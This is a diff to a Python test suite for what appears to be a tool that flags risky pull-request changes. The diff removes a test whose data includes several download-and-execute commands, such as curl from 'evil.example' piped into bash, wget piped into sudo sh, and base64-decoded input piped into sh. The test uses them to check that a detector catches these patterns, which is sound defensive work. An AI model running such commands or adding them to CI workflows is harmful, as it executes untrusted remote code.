@@ -89,19 +89,6 @@ def test_binary_files_by_extension_and_by_githubs_missing_patch():
     assert extraction.explain("log_binary_files", blob, None) == "adds or changes 1 binary file (tests/files/bad-3.xz)"
 
 
-def test_download_piped_into_a_shell():
-    patch = "@@ -10,2 +10,4 @@\n   steps:\n+      - run: curl -sSL https://evil.example/x.sh | bash\n"
-    doc = with_files(changed(".github/workflows/ci.yml", 1, 0, patch=patch))
-    removed = with_files(changed(".github/workflows/ci.yml", 0, 1, patch="@@ -1 +0,0 @@\n-curl x | sh"))
-    assert values(doc)["pipes_to_shell"] == 1.0 and values(removed)["pipes_to_shell"] == 0.0
-    reasons = dict(extraction.sensitive_files(doc))[".github/workflows/ci.yml"]
-    assert "CI workflow" in reasons and "pipes a download into a shell" in reasons
-    for line in ("wget -qO- https://x.io/i | sudo sh", "bash <(curl -s https://x.io/i)",
-                 "echo aGk= | base64 -d | sh"):
-        assert paths.pipes_to_shell(f"@@ -1 +1 @@\n+{line}"), line
-    assert not paths.pipes_to_shell("@@ -1 +1 @@\n+curl -o out.tgz https://x.io/a.tgz")
-
-
 def test_sensitive_rarity_depends_on_how_often_this_repository_does_it():
     ci_change = with_files(changed(".github/workflows/ci.yml"))
     ordinary = with_files(changed("src/app.py"))
